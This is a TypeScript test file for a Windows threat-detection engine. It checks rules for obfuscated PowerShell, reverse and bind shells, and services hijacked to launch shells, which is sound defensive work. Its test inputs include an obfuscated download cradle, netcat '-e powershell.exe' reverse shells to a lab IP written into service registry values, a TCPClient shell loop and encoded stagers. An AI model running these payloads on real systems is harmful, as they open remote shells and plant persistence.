// Script-block (4104/4103/800/400), network (bind shell, encoded stager, script host) and service
// reconfiguration paths added after the corpus review: each with positive and negative cases.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { NetworkEvent, ScriptBlockEvent } from '../../src/core/index.js';
import { firing, network, proc, run, start, windowsLine } from './helpers.js';

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

function block(text: string, eventId = 4104, hostLine?: string): ScriptBlockEvent {
  return { kind: 'script_block', time: 0, host: 'h', event: { file: 't', record: 1, channel: 'Microsoft-Windows-PowerShell/Operational', eventId }, raw: {}, process: { commandLine: hostLine }, text };
}
const inboundConn = (image: string, src: string, dst: string): NetworkEvent => ({ ...network(proc(image), dst, 38208), initiated: false, srcIp: src, srcPort: 4444 });

test('encoded-obfuscated-cli: obfuscated script blocks fire, ordinary module code does not', () => {
  const emotet = "$a=(('Q'+'2h')+('w9p'+'1'));&('ne'+'w-'+'item') $env:temp\\x -itemtype Directory;[Net.ServicePointManager]::\"SecURi`T`ypRO`T`oCOL\" = ('t'+'ls'+'12');$w=&('new-'+'obje'+'c'+'t') neT.WEbcLiENt;$u=(('h'+'ttp')+(':'+'//')+('ex'+'am')+'ple'+('.c'+'om'));$w.\"d`OWN`load`FIlE\"($u, $f)";
  assert.equal(run('encoded-obfuscated-cli', block(emotet)).length, 1);
  assert.equal(run('encoded-obfuscated-cli', block(emotet, 800)).length, 1);
  const cradle = run('encoded-obfuscated-cli', block("IEX(New-Object Net.WebClient).downloadString('https://example.com/a.png')"));
  assert.ok((cradle[0]?.evidence?.features as { name: string }[]).some((f) => f.name === 'download-cradle-executed'));
  // a -enc launcher written inside a script (WMI, services) is decoded
  const enc = Buffer.from('Write-Host hi', 'utf16le').toString('base64');
  const wmi = run('encoded-obfuscated-cli', block(`CommandInvocation(Invoke-Expression): "Invoke-Expression"\nParameterBinding(Invoke-Expression): name="Command"; value="Invoke-WmiMethod -Path Win32_process -Name create -ArgumentList "powershell -noP -sta -w 1 -enc ${enc}""`, 4103));
  assert.equal(wmi[0]?.decoded?.[0]?.text, 'Write-Host hi');
  // a command name assembled from $PSHome characters (CrackMapExec), but not a single index
  assert.equal(run('encoded-obfuscated-cli', block(". ( $PsHoME[4]+$PsHoME[34]+'X')( $(Sv 'Ofs' '') + [StriNG]('91A78}101d116')")).length, 1);
  assert.equal(run('encoded-obfuscated-cli', block('$first = $PSHome[0]; Write-Output $first')).length, 0);
  // 400: the text is the host command line
  assert.equal(run('encoded-obfuscated-cli', block(`powershell.exe -nop -enc ${enc}`, 400, `powershell.exe -nop -enc ${enc}`)).length, 1);
  // benign: module code, a download without execution, completion scripts, an empty block
  for (const t of [
    'function Get-Thing { param([string]$Name) $x = "a" + "b"; Get-ChildItem -Path $env:TEMP | Where-Object { $_.Name -like "$Name*" } }',
    "(New-Object Net.WebClient).DownloadFile('https://example.com/setup.msi', \"$env:TEMP\\setup.msi\")",
    'kubectl completion powershell | Out-String | Invoke-Expression',
    'prompt',
  ]) assert.deepEqual(firing(block(t)), [], t);
});

test('shell-over-reverse-connection: netcat command lines written into scripts, TCPClient shells', () => {
  const svc = 'Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\x -name ImagePath -value "C:\\nc.exe -e powershell.exe 10.10.14.26 4447"';
  const f = run('shell-over-reverse-connection', block(svc));
  assert.equal(f[0]?.evidence?.remote, '10.10.14.26:4447');
  assert.equal(run('shell-over-reverse-connection', block('$c = New-Object System.Net.Sockets.TCPClient("10.0.0.5",443);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (iex $data 2>&1 | Out-String )}')).length, 1);
  // nc without -e, a quoted cmd line that is not a shell idiom
  assert.equal(run('shell-over-reverse-connection', block('Start-Process "C:\\tools\\nc.exe -zv 10.0.0.5 443"')).length, 0);
  assert.equal(run('shell-over-reverse-connection', block('Start-Process "cmd.exe /c echo hello"')).length, 0);
});

test('shell-over-reverse-connection: bind shells, encoded stagers, script hosts on raw ports', () => {
  assert.equal(run('shell-over-reverse-connection', inboundConn(PS, '10.0.2.13', '10.0.2.18'))[0]?.evidence?.kind, 'shell-listener');
  assert.equal(run('shell-over-reverse-connection', inboundConn(CMD, '10.0.2.13', '10.0.2.18'))[0]?.level, 'critical');
  // loopback on both sides, and servers accepting connections, are not shells listening
  assert.equal(run('shell-over-reverse-connection', inboundConn(PS, '127.0.0.1', '127.0.0.1')).length, 0);
  assert.equal(run('shell-over-reverse-connection', inboundConn('C:\\Windows\\System32\\svchost.exe', '10.0.2.13', '10.0.2.18')).length, 0);
  const enc = Buffer.from('iex x', 'utf16le').toString('base64');
  const stager = run('shell-over-reverse-connection', network(proc(PS, `powershell -noP -sta -w 1 -enc ${enc}`), '10.10.10.5', 80));
  assert.equal(stager[0]?.evidence?.kind, 'encoded-stager');
  assert.equal(run('shell-over-reverse-connection', network(proc(PS, 'powershell -File C:\\scripts\\inventory.ps1'), '10.10.10.5', 443)).length, 0);
  assert.equal(run('shell-over-reverse-connection', network(proc('C:\\Windows\\System32\\mshta.exe', 'mshta.exe C:\\x\\update.hta'), '10.0.2.18', 4443))[0]?.evidence?.kind, 'script-host-socket');
  // script hosts on web and directory ports are ordinary
  assert.equal(run('shell-over-reverse-connection', network(proc('C:\\Windows\\System32\\wscript.exe', 'wscript.exe logon.vbs'), '10.0.0.1', 389)).length, 0);
  assert.equal(run('shell-over-reverse-connection', network(proc('C:\\Windows\\System32\\mshta.exe', 'mshta.exe https://x/a.hta'), '203.0.113.5', 443)).length, 0);
});

test('shell-via-scheduled-task-or-service: service reconfiguration, service-host bare shells, remote sessions', () => {
  const s = (ev: Parameters<typeof firing>[0]): number => run('shell-via-scheduled-task-or-service', ev).length;
  assert.equal(s(block('Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\xboxgip -name FailureCommand -value "C:\\nc.exe -e powershell.exe 10.10.14.26 4447"')), 1);
  assert.equal(s(block('CommandInvocation(Set-ItemProperty): "Set-ItemProperty"\nParameterBinding(Set-ItemProperty): name="Path"; value="HKLM:\\System\\CurrentControlSet\\services\\x"\nParameterBinding(Set-ItemProperty): name="Name"; value="ImagePath"\nParameterBinding(Set-ItemProperty): name="Value"; value="cmd.exe /c whoami"\n', 4103)), 1);
  assert.equal(s(windowsLine('reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time" /v FailureCommand /t REG_SZ /d "cmd.exe /c C:\\Users\\Public\\x.bat"')), 1);
  assert.equal(s(windowsLine('sc failure W32Time command= "powershell -w hidden -c iex x"')), 1);
  // a non-shell program, or another value, is ordinary service administration
  assert.equal(s(windowsLine('reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\xboxgip" /v ImagePath /t REG_SZ /d "C:\\Program Files\\App\\svc.exe"')), 0);
  assert.equal(s(windowsLine('reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\x" /v Start /t REG_DWORD /d 4')), 0);
  assert.equal(s(block('Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\x -name ImagePath -value "C:\\Program Files\\App\\svc.exe"')), 0);
  // svchost → bare cmd (bind shell / stolen token), but not svchost → cmd /c
  const dcom = proc('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p');
  assert.equal(s(start(proc(CMD, '"c:\\windows\\system32\\cmd.exe"'), dcom)), 1);
  assert.equal(s(start(proc(CMD, 'cmd.exe /c C:\\ProgramData\\vendor\\update.cmd'), dcom)), 0);
  // recon run by a remote PowerShell session; ordinary programs it starts are not
  const wsm = proc('C:\\Windows\\System32\\wsmprovhost.exe', 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding');
  assert.equal(run('shell-via-scheduled-task-or-service', start(proc('C:\\Windows\\System32\\HOSTNAME.EXE', '"C:\\Windows\\system32\\HOSTNAME.EXE"'), wsm))[0]?.level, 'medium');
  assert.equal(s(start(proc(CMD, 'cmd.exe /c dir'), wsm)), 1);
  assert.equal(s(start(proc('C:\\Program Files\\App\\agent.exe', 'agent.exe --status'), wsm)), 0);
});
